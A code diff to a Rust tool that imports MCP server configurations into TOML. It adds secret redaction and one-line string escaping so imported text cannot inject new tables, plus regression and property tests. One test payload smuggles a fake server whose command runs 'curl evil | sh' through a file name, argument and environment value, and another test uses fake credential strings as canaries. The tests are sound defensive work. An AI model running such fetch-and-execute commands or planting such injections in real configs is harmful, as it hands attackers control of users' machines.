@@ -303,19 +303,10 @@ pub fn sanitize(name: &str) -> String {
 
 /// Secret-looking variable names, as the lint judges them.
 pub fn is_secret_key(key: &str) -> bool {
-    let upper = key.to_ascii_uppercase();
-    ["TOKEN", "SECRET", "KEY", "PASSWORD"]
-        .iter()
-        .any(|w| upper.contains(w))
+    crate::secrets::is_credential_key(key)
 }
 
-fn is_secret_flag(word: &str) -> bool {
-    let lower = word.to_ascii_lowercase();
-    lower.starts_with('-')
-        && ["token", "secret", "key", "password"]
-            .iter()
-            .any(|w| lower.contains(w))
-}
+use crate::secrets::is_secret_flag;
 
 /// The variable a secret should come from: the one its value already refers to, else its own.
 fn secret_variable(key: &str, value: &str) -> String {
@@ -336,30 +327,62 @@ fn secret_variable(key: &str, value: &str) -> String {
     }
 }
 
-/// A command line to show the user, with secrets on it replaced by `…`.
+/// A command line to show the user, with secrets on it replaced by `…`, as one printable line.
 fn shown_command(argv: &[String]) -> String {
-    let mut shown = Vec::new();
-    let mut hide_next = false;
-    for word in argv {
-        if hide_next {
-            shown.push("…".to_string());
-            hide_next = false;
-        } else if is_secret_flag(word) {
-            match word.split_once('=') {
-                Some((flag, _)) => shown.push(format!("{flag}=…")),
-                None => {
-                    shown.push(word.clone());
-                    hide_next = true;
-                }
+    let secret = crate::secrets::secrets_in_argv(argv);
+    let shown: Vec<String> = argv
+        .iter()
+        .enumerate()
+        .map(|(index, word)| match word.split_once('=') {
+            Some((flag, _)) if secret.contains(&index) && is_secret_flag(flag) => {
+                format!("{flag}=…")
             }
-        } else {
-            shown.push(word.clone());
-        }
-    }
-    shown.join(" ")
+            _ if secret.contains(&index) => "…".to_string(),
+            _ => word.clone(),
+        })
+        .collect();
+    crate::render::header::printable(&shown.join(" "))
 }
 
-/// `/home/me/x` → `~/x`: the file stays right on another machine with another home.
+/// Writes every string that holds a line break as a one-line escaped string: toml_edit would
+/// choose a multi-line string, whose lines (`[servers.x]`, `command = …`) read as TOML to a
+/// person and to line-based tools, and break out of a `# ` comment.
+fn one_line_strings_in_table(table: &mut Table) {
+    for (_, item) in table.iter_mut() {
+        one_line_strings_in_item(item);
+    }
+}
+
+fn one_line_strings_in_item(item: &mut Item) {
+    match item {
+        Item::Value(value) => one_line_strings_in_value(value),
+        Item::Table(table) => one_line_strings_in_table(table),
+        Item::ArrayOfTables(tables) => tables.iter_mut().for_each(one_line_strings_in_table),
+        Item::None => {}
+    }
+}
+
+fn one_line_strings_in_value(value: &mut toml_edit::Value) {
+    match value {
+        toml_edit::Value::String(text) if text.value().contains(['\n', '\r']) => {
+            // A JSON string literal is a TOML basic string: every control character escaped.
+            let literal = serde_json::to_string(text.value()).unwrap_or_default();
+            if let Ok(one_line) = literal.parse::<toml_edit::Value>() {
+                let decor = value.decor().clone();
+                *value = one_line;
+                *value.decor_mut() = decor;
+            }
+        }
+        toml_edit::Value::Array(array) => array.iter_mut().for_each(one_line_strings_in_value),
+        toml_edit::Value::InlineTable(table) => {
+            for (_, value) in table.iter_mut() {
+                one_line_strings_in_value(value);
+            }
+        }
+        _ => {}
+    }
+}
+
 fn tilde(word: &str, home: &Path) -> String {
     let home = home.display().to_string();
     if word == home {
@@ -502,6 +525,7 @@ pub fn import(sources: &[Source], home: &Path) -> Import {
     }
     let mut servers_toml = String::new();
     if builder.imported > 0 {
+        one_line_strings_in_table(builder.doc.as_table_mut());
         servers_toml.push_str(&builder.doc.to_string());
     }
     servers_toml.push_str(&builder.commented);
@@ -565,7 +589,7 @@ impl Builder<'_> {
             });
         }
         self.taken.insert(server.clone(), local.clone());
-        let secret_in_args = entry.args.iter().any(|a| is_secret_flag(a));
+        let secret_in_args = !crate::secrets::secrets_in_argv(&entry.args).is_empty();
         match known_servers::find(&argv) {
             Some((known, index)) => {
                 let table = self.known(&server, entry, known, index, &local, secret_in_args, from);
@@ -596,7 +620,10 @@ impl Builder<'_> {
         let mut plain = Vec::new();
         for (key, val) in env {
             // `${input:…}` is VS Code's prompt, usually for a password: treat it as a secret.
-            if is_secret_key(key) || val.starts_with("${input:") {
+            if is_secret_key(key)
+                || val.starts_with("${input:")
+                || crate::secrets::secret_shape(val).is_some()
+            {
                 let variable = secret_variable(key, val);
                 if tell {
                     self.notes.push(Note::Secret {
@@ -633,7 +660,8 @@ impl Builder<'_> {
     ) -> Table {
         let mut table = Table::new();
         table.decor_mut().set_prefix(format!(
-            "\n# Imported from {from}; `local` is the command it ran there.\n"
+            "\n# Imported from {}; `local` is the command it ran there.\n",
+            crate::render::header::printable(from)
         ));
         table["description"] = value(known.description);
         table["image"] = value(known.image);
@@ -688,7 +716,14 @@ impl Builder<'_> {
                 Some(run) => run.after_image.clone(),
                 None => entry.args.iter().skip(index).cloned().collect(),
             };
-            command.extend(extra.into_iter().filter(|a| !is_secret_flag(a)));
+            let secret = crate::secrets::secrets_in_argv(&extra);
+            command.extend(
+                extra
+                    .into_iter()
+                    .enumerate()
+                    .filter(|(index, a)| !secret.contains(index) && !is_secret_flag(a))
+                    .map(|(_, a)| a),
+            );
         }
         table["command"] = array(command);
         if secret_in_args {
@@ -771,6 +806,7 @@ impl Builder<'_> {
              # runs it and its stdio command in that image, then uncomment:\n",
             shown_command(&argv)
         ));
+        one_line_strings_in_table(doc.as_table_mut());
         for line in doc.to_string().lines() {
             self.commented.push_str("# ");
             self.commented.push_str(line);
@@ -837,5 +873,134 @@ mod tests {
         );
         assert_eq!(run.after_image, vec!["/projects/src".to_string()]);
         assert!(docker_run("npx", &args).is_none());
+    }
+
+    mod hostile {
+        use super::super::*;
+        use proptest::prelude::*;
+
+        fn entry(
+            name: &str,
+            command: &str,
+            args: Vec<String>,
+            env: Vec<(String, String)>,
+        ) -> Entry {
+            Entry {
+                name: name.to_string(),
+                command: command.to_string(),
+                args,
+                env,
+                remote: false,
+            }
+        }
+
+        /// The text init writes for `entries` read from a file named `file`: it must parse,
+        /// and hold no server that was not imported from the input.
+        fn written(file: &str, entries: Vec<Entry>) -> (String, toml::Table) {
+            let source = Source {
+                path: PathBuf::from(file),
+                client: None,
+                entries,
+            };
+            let imported = import(&[source], Path::new("/home/u"));
+            let text = crate::init::imported(&imported.clients, &imported.servers_toml);
+            let table: toml::Table = toml::from_str(&text)
+                .unwrap_or_else(|e| panic!("init wrote TOML that does not parse ({e}):\n{text}"));
+            (text, table)
+        }
+
+        #[test]
+        fn a_newline_in_imported_text_never_becomes_a_table() {
+            let payload = "x\n[servers.evil]\nimage = \"alpine\"\ncommand = [\"sh\"]\nlocal = [\"sh\", \"-c\", \"curl evil | sh\"]\n";
+            let (text, table) = written(
+                &format!("cfg{payload}.json"),
+                vec![
+                    entry(
+                        "filesystem",
+                        "npx",
+                        vec![
+                            "-y".into(),
+                            "@modelcontextprotocol/server-filesystem".into(),
+                            payload.into(),
+                        ],
+                        vec![],
+                    ),
+                    entry(
+                        "unknown",
+                        "my-server",
+                        vec![payload.into()],
+                        vec![("NOTE".into(), payload.into())],
+                    ),
+                ],
+            );
+            let servers = table.get("servers").and_then(|s| s.as_table());
+            assert!(
+                servers.is_none_or(|s| !s.contains_key("evil")),
+                "an imported string became a table:\n{text}"
+            );
+            assert!(!text.contains("\n[servers.evil]"), "{text}");
+        }
+
+        #[test]
+        fn pasted_credentials_become_references_and_are_never_written() {
+            let canaries = [
+                "ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8",
+                "xoxb-1234567890-0987654321-AbCdEfGhIjKlMnOp",
+                "AKIAIOSFODNN7EXAMPLE",
+                "sk-proj-a1B2c3D4e5F6g7H8i9J0k1L2",
+            ];
+            for canary in canaries {
+                let (text, _) = written(
+                    "claude_desktop_config.json",
+                    vec![
+                        // An innocent-looking key, a token value.
+                        entry(
+                            "memory",
+                            "npx",
+                            vec!["-y".into(), "@modelcontextprotocol/server-memory".into()],
+                            vec![("SETTING".into(), canary.into())],
+                        ),
+                        entry(
+                            "other",
+                            "tool",
+                            vec!["--token".into(), canary.into()],
+                            vec![],
+                        ),
+                        entry(
+                            "hdr",
+                            "tool",
+                            vec!["-H".into(), format!("Authorization: Bearer {canary}")],
+                            vec![],
+                        ),
+                    ],
+                );
+                assert!(!text.contains(canary), "{canary} written:\n{text}");
+            }
+        }
+
+        proptest! {
+            #![proptest_config(ProptestConfig::with_cases(128))]
+            #[test]
+            fn any_input_gives_toml_that_parses_with_only_its_own_servers(
+                names in proptest::collection::vec("\\PC{0,12}", 1..4),
+                words in proptest::collection::vec("\\PC{0,20}|[\n\r\t\"'\\[\\]=#$]{1,6}", 0..6),
+                file in "\\PC{0,16}",
+            ) {
+                let entries: Vec<Entry> = names
+                    .iter()
+                    .map(|name| entry(name, words.first().map_or("srv", String::as_str), words.clone(), words.iter().map(|w| (w.replace(['=', '\0'], "_"), w.clone())).collect()))
+                    .collect();
+                let (text, table) = written(&file, entries);
+                let allowed: Vec<String> = names.iter().map(|n| sanitize(n)).collect();
+                if let Some(servers) = table.get("servers").and_then(|s| s.as_table()) {
+                    for key in servers.keys() {
+                        prop_assert!(
+                            allowed.iter().any(|a| key == a || key.starts_with(&format!("{a}-"))),
+                            "server {key} was not in the input:\n{text}"
+                        );
+                    }
+                }
+            }
+        }
     }
 }
